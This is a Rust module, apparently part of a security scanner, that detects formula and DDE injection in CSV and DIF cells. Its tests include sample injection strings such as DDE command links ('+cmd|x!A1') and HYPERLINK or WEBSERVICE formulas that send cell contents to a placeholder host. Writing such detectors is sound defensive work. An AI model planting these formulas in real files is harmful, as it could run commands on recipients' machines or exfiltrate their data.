//! Cells in text: values with any separator, quoted or not, and DIF, whose strings are lines.
//!
//! A cell is a formula if it starts with one of `=`, `+`, `-` and `@`, or in Japan with their wide
//! forms. Which character separates cells is not in the file, so that every common one does; what
//! follows one may still be part of the formula.

use std::borrow::Cow;

use crate::limits::Limit;
use crate::observe::Ledger;

use super::super::formula::{
    Shape, function_at, is_call, is_sign, is_sure, link_at, loads_of, tells_cells,
};
use super::super::{Load, LoadKind};

/// The cells that act.
pub(super) fn read(text: &str, ledger: &mut Ledger) -> Vec<Load> {
    let mut found = Vec::new();
    let separator = separator(text);
    let mut cell = Cell::default();
    let mut line = 1_u64;
    let mut skip = 0;
    let mut characters = text.char_indices().peekable();
    while let Some((at, c)) = characters.next() {
        if c == '\n' {
            line = line.saturating_add(1);
        }
        if at < skip {
            continue;
        }
        // In a quoted cell two quotes are one.
        if c == '"' && cell.quoted && !cell.fresh {
            if characters.peek().is_some_and(|(_, next)| *next == '"') {
                characters.next();
            } else {
                cell.quoted = false;
                continue;
            }
        }
        let outside = cell.shape.is_outside();
        cell.feed(at, c, separator);
        let Some(start) = cell.start.filter(|_| outside) else {
            continue;
        };
        let end = match c {
            '|' => cell.link(text, start, at),
            '(' => cell.call(text, start, at),
            _ => None,
        };
        let Some(end) = end else { continue };
        if ledger.charge(Limit::Entries, 1).is_err() {
            break;
        }
        let formula = text.get(start..end).unwrap_or_default();
        // Two quotes are one in a quoted cell.
        let formula = if cell.doubled {
            Cow::Owned(formula.replace("\"\"", "\""))
        } else {
            Cow::Borrowed(formula)
        };
        judge(&formula, line, &mut found);
        cell.start = None;
        skip = end;
    }
    found
}

/// What the formula of a cell does. A text comes from elsewhere: an address that tells what is in
/// the cells beside it is no ordinary one.
fn judge(formula: &str, line: u64, found: &mut Vec<Load>) {
    let place = format!("cell in line {line}");
    let from = found.len();
    loads_of(formula, &place, found);
    let new = found.get_mut(from..).unwrap_or_default();
    let links = new
        .iter_mut()
        .filter(|load| load.kind == LoadKind::Hyperlink);
    if tells_cells(formula) {
        for load in links {
            load.kind = LoadKind::Formula;
            load.target = formula.trim().to_owned();
        }
    }
}

/// What a first line `sep=` says that stands between cells.
fn separator(text: &str) -> Option<char> {
    let text = text.trim_start_matches(['\u{FEFF}', '"']);
    let (word, rest) = text.split_at_checked(4)?;
    word.eq_ignore_ascii_case("sep=")
        .then(|| rest.chars().next())?
}

/// Where in a cell the reader is.
#[derive(Debug)]
struct Cell {
    /// Nothing but blanks came yet.
    fresh: bool,
    quoted: bool,
    /// Whether the cell was in quotes at its start.
    doubled: bool,
    /// Where a formula starts that may still go on.
    start: Option<usize>,
    /// Whether no separator came since.
    whole: bool,
    shape: Shape,
}

impl Default for Cell {
    fn default() -> Self {
        Self {
            fresh: true,
            quoted: false,
            doubled: false,
            start: None,
            whole: true,
            shape: Shape::default(),
        }
    }
}

impl Cell {
    fn feed(&mut self, at: usize, c: char, separator: Option<char>) {
        let goes_on = self.quoted && self.start.is_some() && self.shape.is_formula();
        if matches!(c, '\n' | '\r') && !goes_on {
            *self = Self::default();
            return;
        }
        let parts = matches!(c, ',' | ';' | '\t') || separator == Some(c);
        if self.fresh {
            match c {
                '"' => self.quoted = true,
                _ if is_sign(c) => {
                    self.fresh = false;
                    self.doubled = self.quoted;
                    self.start = Some(at);
                    self.whole = true;
                    self.shape = Shape::default();
                    return;
                }
                _ if c.is_whitespace() || c.is_control() || parts || c == '\u{FEFF}' => {}
                _ => self.fresh = false,
            }
        } else if parts && !self.quoted {
            self.fresh = true;
            self.whole = false;
        }
        if self.start.is_some() {
            self.shape.feed(c);
        }
    }

    /// Where a link ends that makes a formula of the cell.
    fn link(&self, text: &str, start: usize, at: usize) -> Option<usize> {
        let link = link_at(text, at)?;
        let counts = (link.quoted || self.whole) && is_sure(text.get(start..)?, self.shape, &link);
        counts.then_some(link.end)
    }

    /// Where the arguments end, that begin at `at`, of a function that acts.
    fn call(&self, text: &str, start: usize, at: usize) -> Option<usize> {
        if !self.whole || !self.shape.is_formula() || function_at(text.as_bytes(), at).is_none() {
            return None;
        }
        let end = arguments_end(text, at);
        let cell = text.get(start..end)?;
        is_call(cell, at.checked_sub(start)?, cell).then_some(end)
    }
}

/// Where arguments end that begin at `open`, or the line does.
fn arguments_end(text: &str, open: usize) -> usize {
    const LONGEST: usize = 4096;
    let mut depth = 0_u32;
    let mut quoted = false;
    let rest = text.get(open..).unwrap_or_default();
    for (at, c) in rest.char_indices().take(LONGEST) {
        match c {
            '"' => quoted = !quoted,
            '(' if !quoted => depth = depth.saturating_add(1),
            ')' if !quoted => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return open.saturating_add(at).saturating_add(1);
                }
            }
            '\n' | '\r' => return open.saturating_add(at),
            _ => {}
        }
    }
    let end = rest
        .char_indices()
        .nth(LONGEST)
        .map_or(rest.len(), |(at, _)| at);
    open.saturating_add(end)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::limits::Limits;
    use crate::project::formula::may_act;

    fn formulas(text: &str) -> Vec<(LoadKind, String)> {
        assert!(
            may_act(text.as_bytes()) || read_all(text).is_empty(),
            "{text}"
        );
        read_all(text)
    }

    fn read_all(text: &str) -> Vec<(LoadKind, String)> {
        let mut ledger = Ledger::new(Limits::mail());
        let loads = read(text, &mut ledger).into_iter();
        loads.map(|load| (load.kind, load.target)).collect()
    }

    #[test]
    fn dde_cells() {
        for (text, formula) in [
            ("a,=inert|'/c x'!A1,b", "=inert|'/c x'!A1"),
            (
                "a;b\n1;\"@SUM(1)*inert|'/c x'!A1\"",
                "@SUM(1)*inert|'/c x'!A1",
            ),
            ("a\t  =inert|'/c x'!A1", "=inert|'/c x'!A1"),
            ("\t\r=inert|'/c x'!A1", "=inert|'/c x'!A1"),
            ("\"\t=inert|'/c x, y'!A1\"", "=inert|'/c x, y'!A1"),
            ("-2+3+inert|topic!A1", "-2+3+inert|topic!A1"),
            ("=SUM(1,2)*inert|'/c x'!A1", "=SUM(1,2)*inert|'/c x'!A1"),
            ("\"=1+\ninert|'/c x'!A1\"", "=1+\ninert|'/c x'!A1"),
            ("＝inert|'/c x'!A1", "＝inert|'/c x'!A1"),
            (
                "\"=CONCATENATE(\"\"two words\"\",1)+inert|'/c x'!A1\"",
                "=CONCATENATE(\"two words\",1)+inert|'/c x'!A1",
            ),
            ("=DDE(\"inert\";\"/c x\";\"y\")", "inert|/c x!y"),
            ("sep=^\na^=inert|'/c x'!A1^b", "=inert|'/c x'!A1"),
            ("=  inert | '/c x' ! A1", "=  inert | '/c x' ! A1"),
            ("+cmd|x!A1", "+cmd|x!A1"),
        ] {
            assert_eq!(
                formulas(text),
                [(LoadKind::DdeFormula, formula.to_owned())],
                "{text}"
            );
        }
        let padded = format!("=A{}+inert|'/c x'!A1", "+A".repeat(900));
        assert_eq!(formulas(&padded).len(), 1);
    }

    #[test]
    fn formulas_that_fetch() {
        for (text, kind) in [
            ("=WEBSERVICE(\"http://example.invalid\")", LoadKind::Formula),
            (
                "1,\"=importxml(CONCAT(\"\"http://example.invalid/\"\",A1),1)\"",
                LoadKind::Formula,
            ),
            (
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
                LoadKind::Formula,
            ),
            (
                "=HYPERLINK(\"http://example.invalid/?a&b\",\"x\")",
                LoadKind::Hyperlink,
            ),
            (
                "+HYPERLINK(\"http://example.invalid/\")",
                LoadKind::Hyperlink,
            ),
        ] {
            let found = formulas(text);
            assert_eq!(found.len(), 1, "{text}");
            assert_eq!(found[0].0, kind, "{text}");
        }
    }

    #[test]
    fn ordinary_texts_have_none() {
        for text in [
            "a | b ! c\n| --- |\n- item a | b!\n",
            "-1,-2.5,+3\n-4,a|b,c!d\n-1,error|disk!full\n",
            "- run: cat a|grep b!\n- name: \"x|y!z\"\n- a|b!c\n- a|'b'!c\n",
            "--- a/x.c\n+++ b/x.c\n-a|b!c\n+  x = y | z!q;\n+if (a||!b)\n+a|b!c\n",
            "- yes|no, and more!\n- one thing|two things!three\n",
            "|a|b!c|\n|---|---|\n|-1|x!y|\n",
            "From: <a@example.invalid>\n@someone said x|y\n",
            "+call(\"x\")\n-exec(\"ls\")\n+    hyperlink(url)\n- image(x)\n",
            "= exec(x)\n + webservice(y)\n",
            "x = a|b!c\nif (a || b) && !c",
            "'=inert|'/c x'!A1 is text\n",
            "=======\n--------|-------!---\n",
        ] {
            assert_eq!(formulas(text), [], "{text}");
        }
    }
}
